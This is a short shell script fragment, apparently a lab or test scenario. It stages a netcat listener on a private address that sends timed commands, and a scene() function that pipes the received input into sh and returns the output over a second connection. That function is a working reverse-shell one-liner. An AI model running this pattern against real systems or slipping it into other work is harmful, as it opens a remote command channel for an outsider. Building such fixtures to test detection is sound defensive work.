# Orders by one connection, answers by another, and nothing is sent before the first order.
peers() {
  (sleep 4; echo id; sleep 0.6; echo uname; sleep 0.6; echo exit) | timeout 90 nc -l -N 10.200.1.2 4444 > /dev/null & listening t 4444
  sink 4445
}
scene() { timeout 8 nc.openbsd 10.200.1.2 4444 | sh 2>&1 | timeout 8 nc.openbsd 10.200.1.2 4445; }
